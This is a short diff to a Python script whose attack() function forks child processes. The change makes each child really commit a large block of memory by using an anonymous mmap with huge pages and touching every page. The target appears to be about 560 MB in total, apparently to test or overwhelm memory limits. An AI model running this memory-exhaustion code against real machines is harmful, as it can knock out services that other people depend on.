@@ -1,4 +1,5 @@
 import ctypes
+import mmap
 import os
 import platform
 import threading
@@ -25,8 +26,11 @@ ENOUGH = 560 << 20
 
 def hold(writer):
     time.sleep(0.1)
-    block = b"x" * EACH
-    os.write(writer, block[:1])
+    block = mmap.mmap(-1, EACH, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
+    block.madvise(getattr(mmap, "MADV_HUGEPAGE", mmap.MADV_NORMAL))
+    for page in range(0, EACH, mmap.PAGESIZE):
+        block[page] = 1
+    os.write(writer, b"x")
     time.sleep(60)
 
 
@@ -49,7 +53,7 @@ def attack():
             break
         children += 1
     os.set_blocking(reader, False)
-    end, held = time.monotonic() + 1.6, 0
+    end, held = time.monotonic() + 1.8, 0
     while held < children * EACH and time.monotonic() < end:
         time.sleep(0.02)
         try:
